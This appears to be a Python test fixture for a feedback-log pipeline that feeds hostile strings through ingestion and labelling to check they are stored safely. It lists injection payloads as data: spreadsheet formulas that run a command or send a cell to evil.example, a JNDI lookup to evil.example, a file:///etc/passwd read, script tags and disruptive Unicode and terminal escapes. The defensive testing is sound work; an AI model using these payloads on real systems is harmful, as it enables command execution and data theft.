"""What somebody who means harm writes, and a small log of it."""

import json
from datetime import UTC, datetime, timedelta
from pathlib import Path

import polars as pl

from feedback.pipeline.ingest import ingest_logs
from feedback.pipeline.label import run_labels
from feedback.store import Store

CLOCK = datetime(2026, 1, 5, 12, tzinfo=UTC)
FORMULAS = (
    "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", " =1+1", "'=1+1", "＝1+1",
    '=HYPERLINK("http://evil.example?"&A1,"click")',
)  # fmt: skip
TEMPLATES = (
    "{{ 7*7 }}",
    "{% raw %}",
    "${jndi:ldap://evil.example/a}",
    "file:///etc/passwd",
    "<script>alert(1)</script>",
)
UNICODE = (
    "\u202egnp.exe", "a\u200b\u200c\u200d\ufeffb", "e" + "\u0301" * 10_000, "\ud800", "\0", "\x1b[2J\x1b]0;owned\a",
    "\U000e0041" * 100, "\u2028\u2029\x85", "مرحبا " * 1_000, "👩‍👩‍👧‍👦" * 500,
)  # fmt: skip


def write_log(folder: Path, texts: tuple[str, ...]) -> Path:
    """Write a JSON Lines log: each text is asked, answered, kept, and the name of who asked."""
    rows = []
    for number, text in enumerate(texts):
        usual = {"session_id": f"s{number}", "interaction_id": f"i{number}", "user_id": text[:50], "feature": text[:50]}
        for place, kind in enumerate(("request", "response", "edit")):
            at = CLOCK - timedelta(days=1) + timedelta(seconds=10 * place)
            rows.append(
                {**usual, "event_id": f"{number}-{place}", "occurred_at": at.isoformat(), "kind": kind, "text": text}
            )
    file = folder / "hostile.jsonl"
    file.write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")
    return file


def labelled_store(folder: Path, texts: tuple[str, ...]) -> Store:
    """Return a store that holds these texts, labelled."""
    store = Store(folder / "store")
    ingest_logs(store, [write_log(folder, texts)], clock=lambda: CLOCK)
    run_labels(store, clock=lambda: CLOCK, watermark="end")
    return store


def texts_of(store: Store) -> pl.Series:
    return store.table("events").filter(kind="request").sort("session_id").collect()["text"]
